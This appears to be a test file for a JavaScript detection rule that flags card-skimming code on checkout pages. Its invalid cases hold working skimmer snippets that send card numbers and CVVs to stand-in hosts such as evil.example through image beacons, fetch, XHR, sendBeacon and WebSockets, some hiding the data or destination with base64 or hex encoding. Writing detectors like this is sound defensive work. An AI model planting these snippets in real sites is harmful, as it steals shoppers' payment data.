import rule from './skimmer.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    { name: 'card-formatting handler on the card field (reads this.value, sends nothing)', code: "$('#cc-number').on('input', function () { this.value = this.value.replace(/\\D/g, '').replace(/(\\d{4})(?=\\d)/g, '$1 '); });" },
    { name: 'field validation posted to the own site', code: "document.querySelectorAll('input[name^=\"payment\"]').forEach(function (el) { el.addEventListener('blur', function () { fetch('/checkout/validate', { method: 'POST', body: this.name + '=' + this.value }); }); });" },
    // card formatter (cleave/payment style): reads and rewrites the field, never sends
    "var el = document.getElementById('cc-number'); el.addEventListener('input', function(){ el.value = el.value.replace(/\\D/g,'').replace(/(\\d{4})/g,'$1 ').trim(); });",
    // honest checkout posting to its own site: low at most
    "var n = document.getElementById('cc-number').value; fetch('/checkout/pay', {method:'POST', body: JSON.stringify({n: n})});",
    // analytics beacon with no payment data
    "new Image().src = 'https://stats.example/p.gif?u=' + encodeURIComponent(location.href);",
    // validation plugin: sweeps inputs, sends nothing
    "document.querySelectorAll('input, select').forEach(function(i){ if (!i.value) i.classList.add('error'); });",
    // reads the card, sends something unrelated
    "var cc = document.getElementById('card_number').value; var ok = cc.length > 12; fetch('https://api.example/ping', {method:'POST', body: 'ok'});",
    // jQuery ajax with serialised form to a computed URL: inventory only
    "$('form').on('submit', function(){ $.ajax({ url: this.action, data: $(this).serialize(), type: 'POST' }); });",
  ],
  invalid: [
    { name: 'card hex-encoded by an own charCodeAt/toString(16) loop into an image hostname', code: "function hx(s) { var o = ''; for (var i = 0; i < s.length; i++) o += s.charCodeAt(i).toString(16); return o; } document.querySelector('form').addEventListener('submit', function () { new Image().src = 'https://' + hx(document.querySelector('[autocomplete=\"cc-number\"]').value) + '.cdn-img-static.example/p.png'; });", messageIds: ['skim'], severity: 'critical' },
    { name: 'IIFE parameters aliasing window and document', code: "(function (w, d) { d.addEventListener('change', function () { var n = d.querySelector('#card-number'); if (n && n.value.length > 14) w.fetch('https://api.js-stats.example/v1', { method: 'POST', mode: 'no-cors', body: n.value }); }); })(window, document);", messageIds: ['skim'], severity: 'critical' },
    { name: 'delegated jQuery change handler on payment fields, staged in localStorage, sent base64 on load', code: "(function($){ $(document).on('change', 'input[name^=\"payment\"]', function(){ localStorage.setItem('pmt_' + this.name, this.value); }); $(window).on('load', function(){ var o = {}; for (var k in localStorage) if (k.indexOf('pmt_') === 0) o[k] = localStorage.getItem(k); $.post('https://cdn-jquery-ui.example/t', { d: btoa(JSON.stringify(o)) }); }); })(jQuery);", messageIds: ['skim'], severity: 'critical' },
    { name: 'blur handlers bound to each card field read the event target', code: "['#cc-number', '#cc-cvv'].forEach(function (s) { document.querySelector(s).addEventListener('blur', function (e) { new Image().src = 'https://img-cdn-static.example/p.gif?' + btoa(e.target.value); }); });", messageIds: ['skim'] },
    { name: 'image beacon of base64 sweep', code: "var d = {}; document.querySelectorAll('input').forEach(function(i){ d[i.name] = i.value; }); new Image().src = 'https://cdn-js.example/p?d=' + btoa(JSON.stringify(d));", messageIds: ['skim'], severity: 'critical' },
    { name: 'XHR of card fields by id', code: "document.getElementById('pay').onclick = function(){ var x = new XMLHttpRequest(); x.open('POST','https://evil.example/g'); x.send(document.getElementById('cardNumber').value + document.getElementById('cvv').value); };", messageIds: ['skim'], severity: 'critical' },
    { name: 'hidden destination', code: "var u = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv'); navigator.sendBeacon(u, document.querySelector('#cc-number').value);", messageIds: ['skim'], severity: 'critical' },
    { name: 'through a helper function', code: "function send(p){ fetch('https://evil.example/c', {method:'POST', body:p}); } function grab(){ return document.getElementById('cc_cvv').value; } send(grab());", messageIds: ['skim'], severity: 'critical' },
    { name: 'websocket', code: "var ws = new WebSocket('wss://ws.example/s'); document.getElementById('card-number').addEventListener('change', function(e){ ws.send(e.target.value); });", messageIds: ['skim'], severity: 'critical' },
    { name: 'computed destination', code: "function go(u){ var v = document.getElementById('cc-number').value; fetch(u, {method:'POST', body:v}); }", messageIds: ['skim'], severity: 'high' },
  ],
});
